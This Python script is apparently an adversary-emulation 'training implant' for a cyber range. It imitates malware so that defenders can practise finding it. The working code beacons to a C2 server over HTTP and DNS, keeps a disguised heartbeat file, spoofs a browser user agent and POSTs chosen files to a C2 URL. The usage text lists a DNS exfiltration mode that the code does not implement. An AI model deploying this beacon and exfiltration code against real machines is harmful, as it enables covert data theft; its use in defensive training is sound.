#!/usr/bin/python3
"""cyder's training implant: a harmless stand-in for malware, run inside range PCs only.

It imitates what defenders must find: a dropped file, a persistence entry, a resident process,
periodic check-ins with a C2 server over HTTP (through the proxy) or DNS, collection of files and
their exfiltration. It never spreads, never hides, and touches nothing outside its user's files.

Usage: implant.py resident | beacon-http URL | beacon-dns DOMAIN | exfil-http URL FILE... |
       exfil-dns DOMAIN FILE... (the engine runs each beacon or exfiltration as a step)
"""

import base64
import os
import socket
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

IMPLANT_ID = socket.gethostname()


def resident():
    """Stay running, as an implant does, writing a heartbeat file."""
    state = os.path.expanduser("~/.cache/.updater-state")
    while True:
        with open(state, "w", encoding="utf-8") as fh:
            fh.write(f"{time.time():.0f}\n")
        time.sleep(30)


USER_AGENT = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)"


def fetch(request):
    """Send a request; fail with the proxy's error when the proxy (not the C2) answered with one."""
    try:
        with urllib.request.urlopen(request, timeout=20) as response:
            response.read()
    except urllib.error.HTTPError as exc:
        if exc.headers.get("X-Squid-Error"):
            sys.exit(f"the proxy answered {exc.code} {exc.headers.get('X-Squid-Error')}")
        # Any other answer came from the C2 itself: the message got through.
    except (urllib.error.URLError, OSError) as exc:
        sys.exit(f"no connection: {exc}")


def beacon_http(url):
    """One check-in: GET the C2 URL through the proxy from the environment."""
    fetch(urllib.request.Request(f"{url}?id={IMPLANT_ID}", headers={"User-Agent": USER_AGENT}))


def beacon_dns(domain, expected):
    """One check-in: resolve a name under the C2 domain through the organisation's resolver."""
    label = base64.b32encode(f"{IMPLANT_ID}:{int(time.time())}".encode()).decode().rstrip("=").lower()
    try:
        answer = socket.gethostbyname(f"{label}.{domain}")
    except OSError as exc:
        sys.exit(f"no answer for {domain}: {exc}")
    if expected and answer != expected:
        sys.exit(f"{domain} answered {answer}, not the C2")


def exfil_http(url, paths):
    """POST each file to the C2 through the proxy."""
    for path in paths:
        with open(path, "rb") as fh:
            data = fh.read()
        name = urllib.parse.quote(os.path.basename(path))
        fetch(urllib.request.Request(f"{url}?id={IMPLANT_ID}&name={name}", data=data,
                                     method="POST", headers={"Content-Type": "application/octet-stream",
                                                             "User-Agent": USER_AGENT}))


if __name__ == "__main__":
    command, args = sys.argv[1], sys.argv[2:]
    if command == "resident":
        resident()
    elif command == "beacon-http":
        beacon_http(args[0])
    elif command == "beacon-dns":
        beacon_dns(args[0], args[1] if len(args) > 1 else "")
    elif command == "exfil-http":
        exfil_http(args[0], args[1:])
    else:
        sys.exit(f"unknown command {command}")
